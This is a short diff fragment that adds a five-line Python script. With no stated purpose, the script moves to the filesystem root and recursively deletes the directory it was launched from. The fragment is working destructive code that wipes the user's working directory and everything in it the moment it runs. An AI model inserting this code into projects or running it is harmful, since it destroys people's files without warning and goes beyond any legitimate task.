@@ -1,0 +1,5 @@
+import os
+import shutil
+here = os.getcwd()
+os.chdir("/")
+shutil.rmtree(here)
